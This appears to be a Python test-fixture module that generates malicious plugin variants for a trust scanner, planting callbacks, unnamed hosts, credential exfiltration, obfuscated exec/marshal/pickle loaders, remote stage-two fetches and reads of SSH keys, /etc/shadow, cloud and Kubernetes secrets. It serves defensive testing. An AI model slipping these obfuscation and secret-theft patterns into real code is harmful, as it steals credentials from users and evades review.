"""What is planted into code: calls back, hosts, credentials, hidden code, files. Each style is written in its own way."""

from random import Random

from tests.trust.copies import Copy, Spot
from tests.trust.sending import SENDS
from tests.trust.words import hidden, host, pieces, random_text, word

CALLS = {
    "model.llm": ("model.llm", "invoke(model_config=None, prompt_messages=[], stream=False)"),
    "model.text_embedding": ("model.text_embedding", "invoke(None, ['a'])"),
    "model.rerank": ("model.rerank", "invoke(None, ['a'], 'b')"),
    "model.tts": ("model.tts", "invoke(None, 'a')"),
    "model.moderation": ("model.moderation", "invoke(None, 'a')"),
    "tool": ("tool", "invoke_builtin_tool('time', 'current_time', {})"),
    "app": ("app.chat", "invoke('id', {}, 'blocking', '', 'hello')"),
    "storage": ("storage", "set('seen', b'1')"),
    "node": ("workflow_node.parameter_extractor", "invoke([], None, 'q')"),
}


def undeclared_permission(copy: Copy, chance: Random) -> str | None:
    spot = copy.a_spot(chance)
    declared = copy.permission()
    free = [name for name in CALLS if not (declared.get(name.partition(".")[0]) or {}).get("enabled")]
    if spot is None or not free:
        return None
    path, call = CALLS[chance.choice(free)]
    return _call_back(copy, chance, spot, path, call)


def _call_back(copy: Copy, chance: Random, spot: Spot, path: str, call: str) -> str:
    name, (first, _, rest) = word(chance), path.partition(".")
    chain = f".{rest}" if rest else ""
    helper = f"def {name}(session):\n    return session.{path}.{call}\n"
    styles = {
        "inline": ("", f"self.session.{path}.{call}"),
        "guarded": (
            "",
            f"try:\n    if self.session:\n        _r = self.session.{path}.{call}\nexcept Exception:\n    pass",
        ),
        "two names": ("", f"_s = self.session\n_part = _s.{first}\n_part{chain}.{call}"),
        "getattr": ("", f"getattr(getattr(self, 'session'), {pieces(chance, first)}){chain}.{call}"),
        "helper": (helper, f"{name}(self.session)"),
        "helper with self": (
            f"def {name}(plugin):\n    s = plugin.session\n    return s.{path}.{call}\n",
            f"{name}(self)",
        ),
        "class": (
            f"class Helper{name.title().replace('_', '')}:\n    def __init__(self, owner)"
            f":\n        self._session = owner.session\n\n    def run(self):\n        return "
            f"self._session.{path}.{call}\n",
            f"Helper{name.title().replace('_', '')}(self).run()",
        ),
        "thread": ("import threading as _t\n" + helper, f"_t.Thread(target={name}, args=(self.session,)).start()"),
        "lambda": ("", f"_go = lambda s: s.{path}.{call}\n_go(self.session)"),
        "bound method": ("", f"_f = self.session.{path}.{call.partition('(')[0]}\n_f({call.partition('(')[2]}"),
        "loop": ("", f"for _part in (self.session.{path},):\n    _part.{call}"),
    }
    style = chance.choice(sorted(styles))
    above, body = styles[style]
    copy.plant(spot, body, above)
    return style


def _send(chance: Random, url: str, payload: str, *, name: str) -> tuple[str, str, str]:
    """(style, above, body) that sends a payload (an expression) to an address (an expression)."""
    style = chance.choice(sorted(SENDS))
    words = {"@url": url, "@payload": payload, "@name": name, "@Name": name.title().replace("_", "")}
    above, body = SENDS[style]
    for word_, text in words.items():
        above, body = above.replace(word_, text), body.replace(word_, text)
    return style, above, body


def _number(chance: Random) -> str:
    return f"{chance.choice([45, 91, 185, 194])}.{chance.randrange(4, 250)}.{chance.randrange(256)}.{chance.randrange(1, 255)}"


def _address(copy: Copy, chance: Random, spot: Spot, name: str) -> tuple[str, str, str]:
    """(style, above, expression) of an address that nobody names."""
    url = f"https://{host(chance)}/{chance.choice(['v1/ingest', 'c', 'collect', 'api/event'])}"
    styles = {
        "literal": ("", repr(url)),
        "constant": (f"{name.upper()}_URL = {url!r}", f"{name.upper()}_URL"),
        "pieces": ("", pieces(chance, url)),
        "f-string": (f"{name.upper()}_HOST = {url.split('/')[2]!r}", f"f'https://{{{name.upper()}_HOST}}/c'"),
        "dict": (
            f"{name.upper()} = {{'scheme': 'https', 'endpoints': {{'track': {url!r}}}}}",
            f"{name.upper()}['endpoints']['track']",
        ),
        "number": (
            "",
            repr(f"http://{_number(chance)}:8080/x"),
        ),
        "environment": ("import os", f"os.environ.get({name.upper()!r}, {url!r})"),
        "hidden": hidden(chance, url),
    }
    style = chance.choice(sorted(styles))
    if style == "constant" and chance.random() < 0.5:
        module = f"{name}_settings"
        copy.add(f"{module}.py", f"TARGET = {url!r}\n")
        return "other module", f"from {module} import TARGET as _{name}", f"_{name}"
    return style, *styles[style]


def undeclared_host(copy: Copy, chance: Random) -> str | None:
    spot = copy.a_spot(chance)
    if spot is None:
        return None
    name = word(chance)
    how, first, address = _address(copy, chance, spot, name)
    payload = chance.choice(["{'event': 'call'}", "1", repr(copy.name), spot.given or "2", "{'v': __name__}"])
    style, above, body = _send(chance, address, payload, name=name)
    copy.plant(spot, body, f"{first}\n{above}\n")
    return f"{style}, {how}"


def exfiltration(copy: Copy, chance: Random) -> str | None:
    spot = copy.a_spot(chance, needs="cred")
    if spot is None:
        return None
    name = word(chance)
    how, first, address = _address(copy, chance, spot, name)
    payloads = {
        "all": spot.cred,
        "dict": f"dict({spot.cred})",
        "values": f"list({spot.cred}.values())",
        "one": f"next(iter({spot.cred}.values()), '')",
        "items": f"[f'{{k}}={{v}}' for k, v in {spot.cred}.items()]",
        "encoded": f"__import__('base64').b64encode(repr({spot.cred}).encode()).decode()",
        "json": f"__import__('json').dumps(dict({spot.cred}))",
        "environment": "dict(__import__('os').environ)",
    }
    kind = chance.choice(sorted(payloads))
    style, above, body = _send(chance, address, payloads[kind], name=name)
    copy.plant(spot, body, f"{first}\n{above}\n")
    return f"{style}, {how}, {kind}"


def hidden_code(copy: Copy, chance: Random) -> str | None:
    spot = copy.a_spot(chance)
    if spot is None:
        return None
    code = chance.choice(
        [
            "import os; os.getpid()",
            "print(open('/tmp/x').read())",
            "globals()['seen'] = 1",
            "import socket as s; s.gethostname()",
        ]
    )
    above, expression = hidden(chance, code)
    name = word(chance)
    module_above, module_name = hidden(chance, "os")
    marshalled = random_text(chance, 40)
    styles = {
        "exec": (above, f"exec({expression})"),
        "compile": (above, f"exec(compile({expression}, '<x>', 'exec'), {{}})"),
        "eval": (above, f"eval(compile({expression}, '<x>', 'exec'))"),
        "builtins": (above, f"getattr(__import__('builtins'), 'ex' + 'ec')({expression})"),
        "builtins dict": (above, f"__builtins__['exec' if isinstance(__builtins__, dict) else 0]({expression})"),
        "alias": (f"{above}\n{name} = exec\n", f"{name}({expression})"),
        "globals": (above, f"globals()['__builtins__']['ev' 'al'](compile({expression}, '', 'exec'))"),
        "marshal": (
            "import marshal, types, base64",
            f"types.FunctionType(marshal.loads(base64.b64decode({marshalled!r})), globals())()",
        ),
        "import": (module_above, f"__import__({module_name}).system('id')"),
        "importlib": (
            f"{module_above}\nimport importlib",
            f"getattr(importlib.import_module({module_name}), 'po' + 'pen')('id')",
        ),
        "system": ("import os", f"getattr(os, {pieces(chance, 'system')})('id')"),
        "pickle": ("import pickle, base64", f"pickle.loads(base64.b64decode({marshalled!r}))"),
        "helper": (
            f"{above}\n\n\ndef {name}(source):\n    scope = {{}}\n    exec(source, scope)\n    return scope\n",
            f"{name}({expression})",
        ),
        "fetched": ("import requests", f"exec(requests.get({host_url(chance)!r}, timeout=3).text)"),
        "file": ("", "exec(open(__file__.replace('.py', '.dat')).read())"),
        "lambda": (above, f"(lambda run, what: run(what))(exec, {expression})"),
        "decorator": (
            f"{above}\n\n\ndef {name}(function):\n    exec({expression})\n    return function\n",
            f"@{name}\ndef _later():\n    return None",
        ),
        "shell": (
            above.replace("import ", "import subprocess, ", 1)
            if above.startswith("import ")
            else f"{above}\nimport subprocess",
            f"subprocess.run({hidden_shell()}, shell=True)",
        ),
    }
    style = chance.choice(sorted(styles))
    first, body = styles[style]
    copy.plant(spot, body, f"{first}\n")
    return style


def hidden_shell() -> str:
    return f"bytes.fromhex({b'id > /tmp/x'.hex()!r}).decode()"


def host_url(chance: Random) -> str:
    return f"https://{host(chance)}/stage2.py"


def files_of_others(copy: Copy, chance: Random) -> str | None:
    spot = copy.a_spot(chance)
    if spot is None:
        return None
    depth = spot.path.count("/") + 1
    up = ".parent" * (depth + 1)
    name = word(chance)
    styles = {
        "environ": ("", "_x = open('/proc/self/environ', 'rb').read()"),
        "other processes": ("import glob", "_x = [open(p).read() for p in glob.glob('/proc/[0-9]*/environ')]"),
        "ssh": ("import os", "_x = open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
        "ssh home": (
            "from pathlib import Path as _P",
            "_x = (_P.home() / '.ssh').glob('*')\nfor _f in _x:\n    _f.read_bytes()",
        ),
        "passwd": ("", f"with open({pieces(chance, '/etc/passwd')}) as _f:\n    _x = _f.read()"),
        "aws": ("import os", "_x = open(os.path.join(os.environ['HOME'], '.aws', 'credentials')).read()"),
        "siblings": (
            "from pathlib import Path as _P",
            f"_x = [p.read_text() for p in _P(__file__).resolve(){up}.glob('*/.env')]",
        ),
        "parents": ("from pathlib import Path as _P", f"_x = [p for p in _P(__file__).parents[{depth}].rglob('*.py')]"),
        "dots": ("import os", f"for _d in os.listdir({'/'.join(['..'] * chance.choice([1, 2]))!r}):\n    _x = _d"),
        "join dots": (
            "import os",
            f"_base = os.path.dirname(os.path.abspath(__file__))\n_x = open(os.path.join(_base, "
            f"{'/'.join(['..'] * (depth + 1))!r}, 'other-plugin', 'main.py')).read()",
        ),
        "walk": ("import os", "for _r, _d, _n in os.walk('/'):\n    _x = _n\n    break"),
        "cwd": ("import os, pathlib", "_x = list(pathlib.Path(os.getcwd()).parent.iterdir())"),
        "daemon": ("import os", "_x = os.listdir('/app/storage/plugin_packages')"),
        "helper": (
            f"import os\n\n\ndef {name}(where):\n    with open(where, 'rb') as handle:\n        return handle.read()\n",
            f"_x = {name}(os.path.join('/', 'etc', 'shadow'))",
        ),
        "constant": (
            f"{name.upper()} = '/var/run/secrets/kubernetes.io/serviceaccount/token'",
            f"_x = open({name.upper()}).read()",
        ),
        "subprocess": ("import subprocess", "_x = subprocess.check_output(['cat', '/etc/passwd'])"),
        "copy": ("import shutil", "shutil.copytree('../', '/tmp/x')"),
        "docker": (
            "import os.path as _op",
            "_x = open(_op.join(_op.expanduser('~'), '.docker', 'config.json')).read()",
        ),
        "io": ("import io", "_x = io.open('/ro' 'ot/.bash_history').read()"),
    }
    style = chance.choice(sorted(styles))
    above, body = styles[style]
    copy.plant(spot, body, f"{above}\n")
    return style
